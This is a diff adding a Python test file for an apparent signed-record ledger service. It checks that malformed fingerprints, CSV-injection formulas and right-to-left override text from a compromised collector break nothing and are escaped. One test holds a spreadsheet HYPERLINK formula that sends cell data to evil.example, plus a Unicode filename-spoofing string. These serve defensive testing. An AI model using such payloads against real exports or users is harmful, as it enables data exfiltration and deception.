@@ -1,0 +1,127 @@
+"""Documents a compromised collector can sign and have logged (fingerprints and records of odd
+but accepted shape, hostile text) break nothing for other users: their cache misses and
+replays still answer, the console renders, its CSV export runs no formula, and no signed text
+shows other than it is."""
+
+from __future__ import annotations
+
+import csv
+import html
+import io
+import re
+from typing import Any
+
+import httpx
+
+from ledger.fingerprint import FINGERPRINT_KIND
+from ledger.signing import SigningKey, sign_envelope
+from tests.support.documents import record_body, record_v2
+from tests.support.harness import Harness
+from tests.support.workers import heartbeat, post_heartbeat
+
+
+def _fingerprint(api: Harness, key: SigningKey, body: dict[str, Any]) -> str:
+    resp = api.client().post(
+        "/v1/fingerprints", content=sign_envelope(FINGERPRINT_KIND, body, key).canonical
+    )
+    assert resp.status_code == 201, resp.text
+    fp: str = resp.json()["fingerprint_id"]
+    return fp
+
+
+def _post(api: Harness, key: SigningKey, fp: str, **kw: Any) -> str:
+    env, disclosures = record_v2(key, fp, **kw)
+    resp = api.client().post(
+        "/v1/records", json={"records": [{"envelope": env.to_dict(), "disclosures": disclosures}]}
+    )
+    assert resp.status_code == 201, resp.text
+    rid: str = env.body["request_id"]
+    return rid
+
+
+def _console(api: Harness) -> httpx.Client:
+    c = httpx.Client(base_url=api.url, follow_redirects=False, timeout=30)
+    form = c.get("/ui/signin")
+    token = re.search(r'name="form_token" value="([^"]+)"', form.text)
+    assert token is not None
+    resp = c.post(
+        "/ui/signin",
+        data={"form_token": token[1], "next": "/ui/records", "token": api.token("admin")},
+    )
+    assert resp.status_code == 303, resp.text
+    return c
+
+
+def test_a_fingerprint_of_odd_shape_breaks_no_other_lookup_or_replay(api: Harness) -> None:
+    """Its chat template a string, its engine a string: accepted, and every other user's cache
+    miss and replay still answers as before (they answered 500)."""
+    attacker = api.collector()
+    for body in (
+        {"schema_version": 1, "model": {"name": "x", "chat_template": "oops"}},
+        {"schema_version": 1, "model": {"name": "y", "chat_template": ["oops"]}},
+    ):
+        _fingerprint(api, attacker, body)
+    odd_engine = _fingerprint(api, attacker, {"schema_version": 1, "model": {"name": "z"},
+                                              "engine": "oops"})  # fmt: skip
+    live = heartbeat(attacker, worker_id="evil-w", pool="evil-pool", url="http://127.0.0.1:9",
+                     fingerprint_id=odd_engine)  # fmt: skip
+    assert post_heartbeat(api, live).status_code == 200
+
+    victim, fp = api.setup_collector()
+    rid = _post(api, victim, fp, text_prompt=True, request_extra={"temperature": 0})
+    for endpoint, request in (
+        ("/v1/completions", {"prompt": "never seen", "temperature": 0}),
+        ("/v1/chat/completions", {"messages": [{"role": "user", "content": "hi"}],
+                                  "temperature": 0}),
+    ):  # fmt: skip
+        miss = api.client().post(
+            "/v1/cache/lookup",
+            json={"endpoint": endpoint, "request": request, "fingerprint_id": fp},
+        )
+        assert miss.status_code == 200 and miss.json()["hit"] is False, miss.text
+    replay = api.client().post("/v1/replays", json={"request_id": rid})
+    assert replay.status_code == 409, replay.text
+    assert replay.json()["error"]["code"] == "no_matching_pool"
+
+
+def test_the_console_renders_records_and_fingerprints_of_odd_shape(api: Harness) -> None:
+    key = api.collector()
+    a = _fingerprint(api, key, {"schema_version": 1, "model": {"name": "a", "files": [
+        {"path": 1, "sha256": "x"}, {"path": ["p"], "sha256": "y"}]}})  # fmt: skip
+    b = _fingerprint(api, key, {"schema_version": 1, "model": {"name": "b", "files": [
+        {"path": "x", "sha256": "y"}]}})  # fmt: skip
+    odd = _post(api, key, b, request_extra={"prompt": None, "messages": 5})
+    c = _console(api)
+    for path in ("/ui/records", f"/ui/records/{odd}", f"/ui/diff?a={a}&b={b}"):
+        page = c.get(path)
+        assert page.status_code == 200, (path, page.text[:300])
+    assert '"messages": 5' in html.unescape(c.get(f"/ui/records/{odd}").text)  # as sent
+
+
+def test_signed_text_shows_as_it_is_and_exports_run_no_formula(api: Harness) -> None:
+    key = api.collector()
+    engine = {"name": "vllm", "version": "\u202egnp.exe"}  # reads "exe.png" unless shown
+    fp = _fingerprint(api, key, {"schema_version": 1, "model": {"name": "m"}, "engine": engine})
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    body = record_body(fp, model=formula, pool="-A1")
+    env, disclosures = record_v2(key, fp, model=formula, pool="-A1")
+    resp = api.client().post(
+        "/v1/records", json={"records": [{"envelope": env.to_dict(), "disclosures": disclosures}]}
+    )
+    assert resp.status_code == 201, resp.text
+    assert body["model"] == formula
+    c = _console(api)
+    page = c.get(f"/ui/fingerprints/{fp}").text
+    assert "\u202e" not in page and "[U+202E]gnp.exe" in page
+    rows = list(csv.DictReader(io.StringIO(c.get("/ui/records.csv").text)))
+    (row,) = [r for r in rows if r["request_id"] == env.body["request_id"]]
+    assert row["model"] == "'" + formula and row["pool"] == "'-A1"
+
+
+def test_the_record_page_shows_only_the_notices_its_forms_send(api: Harness) -> None:
+    key, fp = api.setup_collector()
+    rid = _post(api, key, fp)
+    c = _console(api)
+    forged = c.get(f"/ui/records/{rid}", params={"done": "erased. Your token was revoked"})
+    assert "Done:" not in forged.text and "revoked" not in forged.text
+    assert "Done: held." in c.get(f"/ui/records/{rid}", params={"done": "held"}).text
